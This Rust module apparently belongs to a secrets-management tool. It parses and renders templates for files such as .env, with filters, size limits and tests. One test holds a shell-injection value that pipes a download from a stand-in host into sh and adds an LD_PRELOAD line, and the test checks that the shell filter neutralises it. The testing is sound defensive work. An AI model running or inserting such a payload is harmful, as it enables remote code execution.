//! Templates: whole files with secrets inside them (`.env`, `.pgpass`,
//! `database.yml`), stored sealed and rendered on demand, never to disk.
//!
//! ```text
//! template := (text | tag)*
//! tag      := "{{" ws expr (ws "|" ws filter)* ws "}}"
//! expr     := ref | "'" [^']* "'" | '"' [^"]* '"'
//! ref      := ["vault://"] scope "/" key          (see the scope module)
//! filter   := "json" | "base64" | "urlencode" | "shell" | "trim"
//! ```
//!
//! Text outside tags is copied as it is; a literal `{{` is written
//! `{{ "{{" }}`. There is nothing else: no variables, no includes, no
//! environment, no control flow, so a template can reach only the refs
//! it names, and [`Template::refs`] lists them before anything is read.
//!
//! The grammar is parsed here rather than by a template engine such as
//! minijinja: a ref is not a Jinja expression (`global/db` would divide
//! two variables, `vault://…` does not parse), and an engine's values and
//! output strings are not wiped. Here every value and the rendering live
//! in [`SensitiveBytes`] allocated once at their final size.
//!
//! Templates are stored as secrets of the reserved scope
//! `principal:sealfs-templates`, one per name ([`template_ref`]): sealed
//! like any value, since a template may hold secrets of its own, and
//! never served as a secret by the mount.

use std::fmt;

use crate::{ErrorKind, SecretKey, SecretStore, SensitiveBytes, StoreError, VaultRef, VaultScope};

/// The reserved scope templates are stored in.
pub const TEMPLATE_SCOPE: &str = "principal:sealfs-templates";

/// The largest template source, in bytes.
pub const MAX_TEMPLATE_SIZE: usize = 64 * 1024;

/// The largest rendering, in bytes.
pub const MAX_RENDERED_SIZE: usize = 1024 * 1024;

/// The scope templates are stored in ([`TEMPLATE_SCOPE`]).
pub fn template_scope() -> VaultScope {
    TEMPLATE_SCOPE.parse().expect("a valid scope")
}

/// Where template `name` is stored. Template names follow the key rules
/// (`[a-z0-9._-]`, at most 128 bytes).
pub fn template_ref(name: &SecretKey) -> VaultRef {
    VaultRef::new(template_scope(), name.clone())
}

/// A filter applied to a value, left to right.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Filter {
    /// Escaped for the inside of a JSON string (the quotes are the
    /// template's): `"`, `\` and control characters. Needs UTF-8.
    Json,
    /// Standard base64 with padding.
    Base64,
    /// Percent-encoded: everything but `A-Z a-z 0-9 - . _ ~`.
    UrlEncode,
    /// One POSIX shell word: single-quoted, each `'` as `'\''`, so a
    /// file a shell sources (`. app.env`) gets the value as data, never as
    /// code or further lines.
    Shell,
    /// Leading and trailing ASCII white space removed.
    Trim,
}

impl Filter {
    const NAMES: &'static str = "json, base64, urlencode, shell, trim";

    fn parse(name: &str) -> Option<Filter> {
        Some(match name {
            "json" => Filter::Json,
            "base64" => Filter::Base64,
            "urlencode" => Filter::UrlEncode,
            "trim" => Filter::Trim,
            "shell" => Filter::Shell,
            _ => return None,
        })
    }

    /// The filter's name in a template.
    pub fn name(self) -> &'static str {
        match self {
            Filter::Json => "json",
            Filter::Base64 => "base64",
            Filter::UrlEncode => "urlencode",
            Filter::Trim => "trim",
            Filter::Shell => "shell",
        }
    }

    /// How long `input` filtered is, computed before anything is
    /// allocated (saturating: a length past any limit stays past it).
    fn output_len(self, input: &[u8]) -> usize {
        let sum = |f: fn(u8) -> usize| input.iter().fold(0usize, |n, &b| n.saturating_add(f(b)));
        match self {
            Filter::Trim => input.trim_ascii().len(),
            Filter::Base64 => base64::encoded_len(input.len(), true).unwrap_or(usize::MAX),
            Filter::UrlEncode => sum(|b| if url_safe(b) { 1 } else { 3 }),
            Filter::Json => sum(json_len),
            Filter::Shell => sum(|b| if b == b'\'' { 4 } else { 1 }).saturating_add(2),
        }
    }

    /// `input` filtered, in a buffer allocated once at its final size.
    fn apply(self, input: &[u8]) -> Result<SensitiveBytes, Unfit> {
        match self {
            Filter::Trim => Ok(SensitiveBytes::from_slice(input.trim_ascii())),
            Filter::Shell => {
                // A shell variable cannot hold one: refused, not cut short.
                if input.contains(&0) {
                    return Err(Unfit("cannot carry a NUL byte"));
                }
                let mut out = SensitiveBytes::zeroed(self.output_len(input));
                let buf = out.expose_mut();
                buf[0] = b'\'';
                let mut i = 1;
                for &b in input {
                    if b == b'\'' {
                        buf[i..i + 4].copy_from_slice(b"'\\''");
                        i += 4;
                    } else {
                        buf[i] = b;
                        i += 1;
                    }
                }
                buf[i] = b'\'';
                Ok(out)
            }
            Filter::Base64 => {
                use base64::Engine as _;
                let engine = base64::engine::general_purpose::STANDARD;
                let mut out = SensitiveBytes::zeroed(self.output_len(input));
                let n = engine
                    .encode_slice(input, out.expose_mut())
                    .expect("the buffer has the encoded length");
                out.truncate(n);
                Ok(out)
            }
            Filter::UrlEncode => {
                let keep = url_safe;
                let len = self.output_len(input);
                let mut out = SensitiveBytes::zeroed(len);
                let buf = out.expose_mut();
                let mut i = 0;
                for &b in input {
                    if keep(b) {
                        buf[i] = b;
                        i += 1;
                    } else {
                        buf[i..i + 3].copy_from_slice(&[
                            b'%',
                            HEX[usize::from(b >> 4)],
                            HEX[usize::from(b & 15)],
                        ]);
                        i += 3;
                    }
                }
                Ok(out)
            }
            Filter::Json => {
                if std::str::from_utf8(input).is_err() {
                    return Err(Unfit("needs a UTF-8 value"));
                }
                let escaped = json_len;
                let len = self.output_len(input);
                let mut out = SensitiveBytes::zeroed(len);
                let buf = out.expose_mut();
                let mut i = 0;
                for &b in input {
                    let short = match b {
                        b'"' => Some(b'"'),
                        b'\\' => Some(b'\\'),
                        b'\n' => Some(b'n'),
                        b'\r' => Some(b'r'),
                        b'\t' => Some(b't'),
                        0x08 => Some(b'b'),
                        0x0c => Some(b'f'),
                        _ => None,
                    };
                    match (short, escaped(b)) {
                        (Some(c), _) => {
                            buf[i..i + 2].copy_from_slice(&[b'\\', c]);
                            i += 2;
                        }
                        (None, 6) => {
                            buf[i..i + 6].copy_from_slice(&[
                                b'\\',
                                b'u',
                                b'0',
                                b'0',
                                HEX[usize::from(b >> 4)],
                                HEX[usize::from(b & 15)],
                            ]);
                            i += 6;
                        }
                        _ => {
                            buf[i] = b;
                            i += 1;
                        }
                    }
                }
                Ok(out)
            }
        }
    }
}

const HEX: &[u8; 16] = b"0123456789ABCDEF";

/// Whether `urlencode` keeps `b` as it is (RFC 3986's unreserved).
fn url_safe(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~')
}

/// How many bytes `json` writes for `b`.
fn json_len(b: u8) -> usize {
    match b {
        b'"' | b'\\' | b'\n' | b'\r' | b'\t' | 0x08 | 0x0c => 2,
        0..=0x1f | 0x7f => 6,
        _ => 1,
    }
}

/// A value a filter cannot carry, and why.
#[derive(Debug)]
struct Unfit(&'static str);

/// Why a template was refused: where, and what is wrong there. The
/// message never quotes the template (a secret may be pasted into it).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}, column {column}: {why}")]
pub struct TemplateError {
    /// 1-based line.
    pub line: usize,
    /// 1-based column, in characters.
    pub column: usize,
    /// What is wrong there.
    pub why: String,
}

/// Why a template could not be rendered. Names the ref, never a value.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum RenderError<E: std::error::Error + 'static> {
    /// Reading a ref failed (missing, expired, unreadable).
    #[error("{vault_ref}: {source}")]
    Read {
        /// The ref.
        vault_ref: VaultRef,
        /// Why.
        #[source]
        source: E,
    },
    /// A filter cannot carry the value (`json`: not UTF-8; `shell`: a
    /// NUL byte).
    #[error("{vault_ref}: the {filter} filter {why}")]
    Unfit {
        /// The ref.
        vault_ref: VaultRef,
        /// The filter's name.
        filter: &'static str,
        /// Why.
        why: &'static str,
    },
    /// The rendering would be larger than allowed.
    #[error("the rendering is larger than {max} bytes")]
    TooLarge {
        /// The limit.
        max: usize,
    },
}

#[derive(Clone)]
enum Expr {
    Ref(VaultRef),
    /// A quoted literal: a range of the source.
    Literal(std::ops::Range<usize>),
}

#[derive(Clone)]
enum Part {
    /// Text copied as it is: a range of the source.
    Text(std::ops::Range<usize>),
    Tag {
        expr: Expr,
        filters: Vec<Filter>,
    },
}

/// A parsed template. Holds its source (which may contain secrets) in
/// [`SensitiveBytes`]; `Debug` shows only the refs.
pub struct Template {
    source: SensitiveBytes,
    parts: Vec<Part>,
}

impl fmt::Debug for Template {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Template")
            .field("len", &self.source.len())
            .field("refs", &self.refs())
            .finish()
    }
}

impl Template {
    /// Parses `source`, or says where it is wrong (line and column).
    pub fn parse(source: SensitiveBytes) -> Result<Template, TemplateError> {
        let parts = parse(source.expose())?;
        Ok(Template { source, parts })
    }

    /// Every ref the template names, each once, in order of first use.
    pub fn refs(&self) -> Vec<VaultRef> {
        let mut out: Vec<VaultRef> = Vec::new();
        for part in &self.parts {
            if let Part::Tag {
                expr: Expr::Ref(r), ..
            } = part
            {
                if !out.contains(r) {
                    out.push(r.clone());
                }
            }
        }
        out
    }

    /// The source, as stored.
    pub fn source(&self) -> &SensitiveBytes {
        &self.source
    }

    /// Renders the template, reading each ref once with `read` (in the
    /// order of [`Template::refs`]) before anything is produced: the first
    /// failure ends it, and nothing partial is returned. At most `max`
    /// bytes.
    pub fn render<E, F>(&self, mut read: F, max: usize) -> Result<SensitiveBytes, RenderError<E>>
    where
        E: std::error::Error + 'static,
        F: FnMut(&VaultRef) -> Result<SensitiveBytes, E>,
    {
        let refs = self.refs();
        let mut values = Vec::with_capacity(refs.len());
        for r in &refs {
            match read(r) {
                Ok(v) => values.push(v),
                Err(source) => {
                    return Err(RenderError::Read {
                        vault_ref: r.clone(),
                        source,
                    })
                }
            }
        }
        let src = self.source.expose();
        // Each tag's output, filtered; text parts are borrowed.
        let mut pieces: Vec<Option<SensitiveBytes>> = Vec::with_capacity(self.parts.len());
        // The length so far, checked before each allocation, so no chain
        // of filters or repeated tag allocates past `max`.
        let mut total = 0usize;
        for part in &self.parts {
            let Part::Tag { expr, filters } = part else {
                if let Part::Text(range) = part {
                    total = total.saturating_add(range.len());
                }
                pieces.push(None);
                continue;
            };
            let (mut value, r) = match expr {
                Expr::Ref(r) => {
                    let i = refs.iter().position(|x| x == r).expect("listed");
                    (SensitiveBytes::from_slice(values[i].expose()), Some(r))
                }
                Expr::Literal(range) => (SensitiveBytes::from_slice(&src[range.clone()]), None),
            };
            for f in filters {
                if total.saturating_add(f.output_len(value.expose())) > max {
                    return Err(RenderError::TooLarge { max });
                }
                // A literal is a slice of the source (UTF-8, no NUL), and
                // every filter turns such text into such text: only a value
                // can fail here.
                value = f
                    .apply(value.expose())
                    .map_err(|Unfit(why)| RenderError::Unfit {
                        vault_ref: r.cloned().expect("a literal fits every filter"),
                        filter: f.name(),
                        why,
                    })?;
            }
            total = total.saturating_add(value.len());
            if total > max {
                return Err(RenderError::TooLarge { max });
            }
            pieces.push(Some(value));
        }
        let len: usize = self
            .parts
            .iter()
            .zip(&pieces)
            .map(|(part, piece)| match (part, piece) {
                (Part::Text(range), _) => range.len(),
                (_, Some(v)) => v.len(),
                _ => 0,
            })
            .sum();
        if len > max {
            return Err(RenderError::TooLarge { max });
        }
        let mut out = SensitiveBytes::zeroed(len);
        let buf = out.expose_mut();
        let mut at = 0;
        for (part, piece) in self.parts.iter().zip(&pieces) {
            let bytes = match (part, piece) {
                (Part::Text(range), _) => &src[range.clone()],
                (_, Some(v)) => v.expose(),
                _ => &[][..],
            };
            buf[at..at + bytes.len()].copy_from_slice(bytes);
            at += bytes.len();
        }
        Ok(out)
    }
}

/// Why a template could not read one of its refs from a store.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum RefReadError {
    /// There is no such secret, or it has expired.
    #[error("missing or expired")]
    Missing,
    /// The secret is read-once: rendering would consume it.
    #[error("it is read-once, which a template cannot use")]
    ReadOnce,
    /// The store's error.
    #[error(transparent)]
    Store(Box<StoreError>),
}

impl From<StoreError> for RefReadError {
    fn from(e: StoreError) -> Self {
        if e.kind() == ErrorKind::NotFound {
            RefReadError::Missing
        } else {
            RefReadError::Store(Box::new(e))
        }
    }
}

/// The stored template `name`; `Ok(None)` if there is none.
pub fn load(store: &dyn SecretStore, name: &SecretKey) -> Result<Option<Template>, LoadError> {
    let r = template_ref(name);
    // Stored read-once by hand (`sealfs set --once`): loading it would
    // consume it at the first `ls`.
    if store.entry(&r)?.is_some_and(|e| e.once) {
        return Err(LoadError::ReadOnce { name: name.clone() });
    }
    match store.read(&r) {
        // Made read-once between the two calls: consumed, and said so.
        Ok((_, true)) => Err(LoadError::ReadOnce { name: name.clone() }),
        Ok((source, false)) => {
            Template::parse(source)
                .map(Some)
                .map_err(|source| LoadError::Corrupt {
                    name: name.clone(),
                    source,
                })
        }
        Err(e) if e.kind() == ErrorKind::NotFound => Ok(None),
        Err(e) => Err(LoadError::Store(e)),
    }
}

/// Why a stored template could not be loaded.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum LoadError {
    /// The store's error.
    #[error(transparent)]
    Store(#[from] StoreError),
    /// What is stored is read-once (stored by something else than
    /// `sealfs template set`).
    #[error("template {name} is stored read-once, which a template cannot be")]
    ReadOnce {
        /// The template's name.
        name: SecretKey,
    },
    /// What is stored does not parse (stored by something else than
    /// `sealfs template set`).
    #[error("template {name} does not parse: {source}")]
    Corrupt {
        /// The template's name.
        name: SecretKey,
        /// Where it is wrong.
        #[source]
        source: TemplateError,
    },
}

/// The names of the stored templates, in order.
pub fn names(store: &dyn SecretStore) -> Result<Vec<SecretKey>, StoreError> {
    let mut out = Vec::new();
    match store.for_each_key(&template_scope(), &mut |k| out.push(k)) {
        Ok(()) => Ok(out),
        Err(e) if e.kind() == ErrorKind::NotFound => Ok(Vec::new()),
        Err(e) => Err(e),
    }
}

/// Renders `t` from `store`: each ref read once (a read-once secret is
/// refused, not consumed), at most `max` bytes.
pub fn render_from(
    store: &dyn SecretStore,
    t: &Template,
    max: usize,
) -> Result<SensitiveBytes, RenderError<RefReadError>> {
    // From the index, before any value is decrypted: each ref is there
    // and not read-once, and their lengths together fit.
    let mut total = 0usize;
    for r in t.refs() {
        let failed = |source| RenderError::Read {
            vault_ref: r.clone(),
            source,
        };
        match store.entry(&r) {
            Ok(Some(e)) if e.once => return Err(failed(RefReadError::ReadOnce)),
            Ok(Some(e)) => {
                total = total.saturating_add(usize::try_from(e.len).unwrap_or(usize::MAX));
            }
            Ok(None) => return Err(failed(RefReadError::Missing)),
            Err(e) => return Err(failed(e.into())),
        }
    }
    if total > max {
        return Err(RenderError::TooLarge { max });
    }
    t.render(
        |r| {
            let (value, consumed) = store.read(r)?;
            if consumed {
                // Made read-once between the two calls: consumed, so said,
                // never served.
                return Err(RefReadError::ReadOnce);
            }
            Ok(value)
        },
        max,
    )
}

/// Escapes `text` for a template: each `{{` becomes `{{ "{{" }}`, so the
/// template renders `text` as it is.
pub fn escape_text(text: &str) -> String {
    text.replace("{{", "{{ \"{{\" }}")
}

/// A `.env` file turned into one secret per variable and a template that
/// renders the same file ([`from_env_file`]).
pub struct EnvImport {
    /// The template's source: the file with each value replaced by a tag.
    pub template: String,
    /// Each variable's name, the ref it is stored under, and its value as
    /// written between its quotes (so the rendering is the file, byte for
    /// byte).
    pub vars: Vec<(String, VaultRef, SensitiveBytes)>,
}

/// Why a `.env` file was refused. Never quotes the file.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}: {why}")]
pub struct EnvFileError {
    /// 1-based line.
    pub line: usize,
    /// What is wrong there.
    pub why: &'static str,
}

/// Splits a `.env` file: lines `[export ]NAME=value` (value bare, `"..."`
/// or `'...'`, an optional ` # comment` after it), comments and blank
/// lines. Each non-empty value becomes the secret `<scope>/<name in
/// lower case>`; everything else stays in the template as it is.
pub fn from_env_file(text: &[u8], scope: &VaultScope) -> Result<EnvImport, EnvFileError> {
    let text = std::str::from_utf8(text).map_err(|e| EnvFileError {
        line: text[..e.valid_up_to()]
            .iter()
            .filter(|&&b| b == b'\n')
            .count()
            + 1,
        why: "not UTF-8",
    })?;
    let mut template = String::with_capacity(text.len());
    let mut vars: Vec<(String, VaultRef, SensitiveBytes)> = Vec::new();
    for (i, raw) in text.split_inclusive('\n').enumerate() {
        let line = i + 1;
        let fail = |why| Err(EnvFileError { line, why });
        let body = raw.trim_end_matches(['\n', '\r']);
        let ending = &raw[body.len()..];
        let trimmed = body.trim_start();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            template.push_str(&escape_text(raw));
            continue;
        }
        let lead = body.len() - trimmed.len();
        let (export, rest) = match trimmed.strip_prefix("export") {
            Some(r) if r.starts_with([' ', '\t']) => {
                (trimmed.len() - r.trim_start().len(), r.trim_start())
            }
            _ => (0, trimmed),
        };
        let Some((name, value)) = rest.split_once('=') else {
            return fail("expected NAME=value, a comment or a blank line");
        };
        let name_ok = name
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        if !name_ok {
            return fail(
                "the variable name must be letters, digits and _ (not starting with a digit)",
            );
        }
        // The value, and what follows it on the line.
        let (quote, value, suffix) = match value.as_bytes().first() {
            Some(&q @ (b'"' | b'\'')) => {
                let Some(end) = value[1..].find(char::from(q)).map(|j| j + 1) else {
                    return fail("a quoted value must end on its own line");
                };
                let suffix = &value[end + 1..];
                let t = suffix.trim_start();
                if !(t.is_empty() || (t.starts_with('#') && t.len() < suffix.len())) {
                    return fail("only a ` # comment` may follow a quoted value");
                }
                (Some(char::from(q)), &value[1..end], suffix)
            }
            _ => {
                let end = value
                    .find(" #")
                    .or_else(|| value.find("\t#"))
                    .unwrap_or(value.len());
                let v = value[..end].trim_end();
                (None, v, &value[v.len()..])
            }
        };
        if value.is_empty() {
            template.push_str(&escape_text(raw));
            continue;
        }
        let key = SecretKey::new(name.to_ascii_lowercase()).map_err(|_| EnvFileError {
            line,
            why: "the variable name is longer than 128 bytes",
        })?;
        if vars.iter().any(|(_, r, _)| r.key() == &key) {
            return fail("this variable (or one differing only in case) is set twice");
        }
        let r = VaultRef::new(scope.clone(), key);
        template.push_str(&escape_text(&body[..lead + export]));
        match quote {
            // The shell filter quotes it the same way, and keeps a value
            // written later with a `'` in it one word.
            Some('\'') => template.push_str(&format!("{name}={{{{ {r} | shell }}}}")),
            Some(q) => template.push_str(&format!("{name}={q}{{{{ {r} }}}}{q}")),
            None => template.push_str(&format!("{name}={{{{ {r} }}}}")),
        }
        template.push_str(&escape_text(suffix));
        template.push_str(ending);
        vars.push((
            name.to_owned(),
            r,
            SensitiveBytes::from_slice(value.as_bytes()),
        ));
    }
    Ok(EnvImport { template, vars })
}

/// Line and column (1-based, columns in characters) of byte `at`.
fn position(src: &str, at: usize) -> (usize, usize) {
    let before = &src[..at];
    let line = before.matches('\n').count() + 1;
    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
    (line, before[line_start..].chars().count() + 1)
}

fn parse(bytes: &[u8]) -> Result<Vec<Part>, TemplateError> {
    let err = |src: &str, at: usize, why: String| {
        let (line, column) = position(src, at);
        TemplateError { line, column, why }
    };
    let src = match std::str::from_utf8(bytes) {
        Ok(s) => s,
        Err(e) => {
            let valid = std::str::from_utf8(&bytes[..e.valid_up_to()]).expect("valid prefix");
            return Err(err(
                valid,
                valid.len(),
                "the template is not UTF-8 here".into(),
            ));
        }
    };
    if let Some(at) = src.find('\0') {
        return Err(err(src, at, "the template holds a NUL byte".into()));
    }
    if src.len() > MAX_TEMPLATE_SIZE {
        return Err(TemplateError {
            line: 1,
            column: 1,
            why: format!("the template is larger than {MAX_TEMPLATE_SIZE} bytes"),
        });
    }
    let mut parts = Vec::new();
    let mut at = 0;
    while let Some(open) = src[at..].find("{{").map(|i| at + i) {
        if open > at {
            parts.push(Part::Text(at..open));
        }
        let close = src[open + 2..]
            .find("}}")
            .map(|i| open + 2 + i)
            .ok_or_else(|| err(src, open, "`{{` is never closed with `}}`".into()))?;
        let inner_start = open + 2;
        let inner = &src[inner_start..close];
        if let Some(nl) = inner.find('\n') {
            return Err(err(
                src,
                inner_start + nl,
                "a tag must end on its own line with `}}`".into(),
            ));
        }
        // The expression: a quoted literal or a ref, then filters.
        let lead = inner.len() - inner.trim_start().len();
        let mut i = inner_start + lead;
        let expr = match src.as_bytes().get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let end = src[i + 1..close]
                    .find(char::from(q))
                    .map(|j| i + 1 + j)
                    .ok_or_else(|| err(src, i, "the quoted text is never closed".into()))?;
                let e = Expr::Literal(i + 1..end);
                i = end + 1;
                e
            }
            _ => {
                let end = src[i..close]
                    .find(|c: char| c.is_whitespace() || c == '|')
                    .map_or(close, |j| i + j);
                let text = &src[i..end];
                if text.is_empty() {
                    return Err(err(
                        src,
                        i,
                        "expected a ref, e.g. `{{ global/db_password }}`".into(),
                    ));
                }
                let r: VaultRef = text.parse().map_err(|e: crate::RefError| {
                    err(src, i, format!("invalid ref: {}", e.without_input()))
                })?;
                if r.scope().is_reserved() {
                    return Err(err(
                        src,
                        i,
                        "sealfs's own scopes cannot be named in a template".into(),
                    ));
                }
                let e = Expr::Ref(r);
                i = end;
                e
            }
        };
        let mut filters = Vec::new();
        loop {
            let rest = &src[i..close];
            let skipped = rest.len() - rest.trim_start().len();
            i += skipped;
            if i == close {
                break;
            }
            if src.as_bytes()[i] != b'|' {
                return Err(err(src, i, "expected `|` and a filter, or `}}`".into()));
            }
            i += 1;
            let rest = &src[i..close];
            i += rest.len() - rest.trim_start().len();
            let end = src[i..close]
                .find(|c: char| c.is_whitespace() || c == '|')
                .map_or(close, |j| i + j);
            let name = &src[i..end];
            let f = Filter::parse(name).ok_or_else(|| {
                err(
                    src,
                    i,
                    format!("unknown filter (there are: {})", Filter::NAMES),
                )
            })?;
            filters.push(f);
            i = end;
        }
        parts.push(Part::Tag { expr, filters });
        at = close + 2;
    }
    if at < src.len() {
        parts.push(Part::Text(at..src.len()));
    }
    Ok(parts)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn render(src: &str, values: &[(&str, &[u8])]) -> Result<String, String> {
        let t = Template::parse(SensitiveBytes::from_slice(src.as_bytes()))
            .map_err(|e| e.to_string())?;
        let out = t
            .render(
                |r: &VaultRef| {
                    values
                        .iter()
                        .find(|(name, _)| r.to_string() == *name)
                        .map(|(_, v)| SensitiveBytes::from_slice(v))
                        .ok_or_else(|| std::io::Error::other("missing"))
                },
                1 << 20,
            )
            .map_err(|e| e.to_string())?;
        Ok(String::from_utf8(out.expose().to_vec()).unwrap())
    }

    #[test]
    fn refs_filters_and_literals_render() {
        let src =
            "DB={{ global/db }}\nURL=postgres://u:{{vault://principal:alice/pw|urlencode}}@h\n\
                   J=\"{{ global/db | json }}\" B={{ global/db|trim|base64 }} L={{ \"{{\" }}x}}\n";
        let out = render(
            src,
            &[
                ("global/db", b" a\"b\n "),
                ("principal:alice/pw", b"p@ss/w rd"),
            ],
        )
        .unwrap();
        assert_eq!(
            out,
            "DB= a\"b\n \nURL=postgres://u:p%40ss%2Fw%20rd@h\n\
             J=\" a\\\"b\\n \" B=YSJi L={{x}}\n"
        );
        let t = Template::parse(SensitiveBytes::from_slice(src.as_bytes())).unwrap();
        let refs: Vec<String> = t.refs().iter().map(ToString::to_string).collect();
        assert_eq!(refs, ["global/db", "principal:alice/pw"]);
        assert_eq!(render("no tags } { }}", &[]).unwrap(), "no tags } { }}");
        assert_eq!(render("", &[]).unwrap(), "");
    }

    #[test]
    fn json_escapes_control_characters_and_refuses_bytes_that_are_not_text() {
        assert_eq!(
            render("{{ global/k | json }}", &[("global/k", b"\x01\t\\\x7f")]).unwrap(),
            "\\u0001\\t\\\\\\u007F"
        );
        let e = render("{{ global/k | json }}", &[("global/k", b"\xff")]).unwrap_err();
        assert_eq!(e, "global/k: the json filter needs a UTF-8 value");
        assert_eq!(
            render("{{ global/k }}", &[]).unwrap_err(),
            "global/k: missing"
        );
    }

    #[test]
    fn bad_templates_are_refused_with_line_and_column_and_without_their_text() {
        for (src, want) in [
            ("a\nb {{ global/x", "line 2, column 3: `{{` is never closed with `}}`"),
            ("{{ }}", "line 1, column 4: expected a ref, e.g. `{{ global/db_password }}`"),
            ("x\n  {{ sk-live-SECRET }}", "line 2, column 6: invalid ref: expected `<scope>/<key>`, e.g. `global/openai_api_key`"),
            ("{{ global/Bad }}", "line 1, column 4: invalid ref: the key: only a-z 0-9 . _ - are allowed"),
            ("é {{ global/k | upper }}", "line 1, column 17: unknown filter (there are: json, base64, urlencode, shell, trim)"),
            ("{{ global/k json }}", "line 1, column 13: expected `|` and a filter, or `}}`"),
            ("{{ global/k |\n }}", "line 1, column 14: a tag must end on its own line with `}}`"),
            ("{{ 'open }}", "line 1, column 4: the quoted text is never closed"),
            ("{{ principal:sealfs-fleet/k }}", "line 1, column 4: sealfs's own scopes cannot be named in a template"),
        ] {
            let e = Template::parse(SensitiveBytes::from_slice(src.as_bytes())).unwrap_err();
            assert_eq!(e.to_string(), want, "{src:?}");
            assert!(!e.to_string().contains("SECRET"));
        }
        let e = Template::parse(SensitiveBytes::from_slice(b"ok\n\xff")).unwrap_err();
        assert_eq!(
            e.to_string(),
            "line 2, column 1: the template is not UTF-8 here"
        );
        let big = "x".repeat(MAX_TEMPLATE_SIZE + 1);
        assert!(Template::parse(SensitiveBytes::from_slice(big.as_bytes())).is_err());
    }

    #[test]
    fn an_env_file_becomes_secrets_and_a_template_that_renders_it_back() {
        let file = "# db\r\nexport DB_PASSWORD='p w#1'  # the db\nAPI_KEY=sk-1 # key\n\
                    EMPTY=\n  TOKEN=\"a{{b\"\nNOTE=x\t\n# {{ not a tag }}\nLAST=z";
        let scope = "principal:app".parse().unwrap();
        let got = from_env_file(file.as_bytes(), &scope).unwrap();
        let names: Vec<String> = got
            .vars
            .iter()
            .map(|(n, r, _)| format!("{n}={r}"))
            .collect();
        assert_eq!(
            names,
            [
                "DB_PASSWORD=principal:app/db_password",
                "API_KEY=principal:app/api_key",
                "TOKEN=principal:app/token",
                "NOTE=principal:app/note",
                "LAST=principal:app/last",
            ]
        );
        let values: Vec<(String, &[u8])> = got
            .vars
            .iter()
            .map(|(_, r, v)| (r.to_string(), v.expose()))
            .collect();
        assert_eq!(values[0].1, b"p w#1");
        assert_eq!(values[2].1, b"a{{b");
        assert_eq!(values[3].1, b"x");
        assert!(!got.template.contains("sk-1"));
        let lookup: Vec<(&str, &[u8])> = values.iter().map(|(r, v)| (r.as_str(), *v)).collect();
        assert_eq!(render(&got.template, &lookup).unwrap(), file);
        for (bad, want) in [
            ("A=1\nnot a line\n", "line 2: expected NAME=value, a comment or a blank line"),
            ("1A=x", "line 1: the variable name must be letters, digits and _ (not starting with a digit)"),
            ("A=\"open\nB=\"", "line 1: a quoted value must end on its own line"),
            ("A='x' y", "line 1: only a ` # comment` may follow a quoted value"),
            ("A=1\na=2", "line 2: this variable (or one differing only in case) is set twice"),
        ] {
            let e = from_env_file(bad.as_bytes(), &scope).err().unwrap();
            assert_eq!(e.to_string(), want, "{bad:?}");
        }
    }

    #[test]
    fn escaped_text_renders_as_it_was() {
        let text = "a {{ b }} {{{ c";
        assert_eq!(render(&escape_text(text), &[]).unwrap(), text);
    }

    #[test]
    fn the_shell_filter_makes_one_word_of_any_value() {
        let out = render(
            "A={{ global/k | shell }}\nB={{ global/e | shell }}\n",
            &[
                ("global/k", b"x'; curl evil|sh; '\nLD_PRELOAD=/x"),
                ("global/e", b""),
            ],
        )
        .unwrap();
        assert_eq!(
            out,
            "A='x'\\''; curl evil|sh; '\\''\nLD_PRELOAD=/x'\nB=''\n"
        );
        // The shell agrees: one word, the value back byte for byte.
        let got = std::process::Command::new("sh")
            .args(["-c", &format!("{out}printf %s \"$A\"")])
            .output()
            .unwrap();
        assert_eq!(got.stdout, b"x'; curl evil|sh; '\nLD_PRELOAD=/x");
    }

    #[test]
    fn a_chain_of_filters_or_tags_is_stopped_before_it_allocates_past_the_limit() {
        let many = "{{ global/k | urlencode | urlencode | urlencode | urlencode | urlencode \
                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
                    | base64 | base64 | base64 | base64 | base64 | base64 | base64 | base64 }}";
        let t = Template::parse(SensitiveBytes::from_slice(many.as_bytes())).unwrap();
        let value = || Ok::<_, std::io::Error>(SensitiveBytes::from_slice(&[b'%'; 4096]));
        let e = t.render(|_: &VaultRef| value(), 1 << 20).unwrap_err();
        assert!(matches!(e, RenderError::TooLarge { .. }), "{e}");
        let repeated = "{{ global/k | json }}".repeat(3000);
        let t = Template::parse(SensitiveBytes::from_slice(repeated.as_bytes())).unwrap();
        let e = t.render(|_: &VaultRef| value(), 1 << 20).unwrap_err();
        assert!(matches!(e, RenderError::TooLarge { .. }), "{e}");
    }

    #[test]
    fn a_rendering_over_the_limit_is_refused() {
        let t = Template::parse(SensitiveBytes::from_slice(b"{{ global/k }}")).unwrap();
        let e = t
            .render(
                |_: &VaultRef| Ok::<_, std::io::Error>(SensitiveBytes::from_slice(b"12345")),
                4,
            )
            .unwrap_err();
        assert_eq!(e.to_string(), "the rendering is larger than 4 bytes");
    }
}
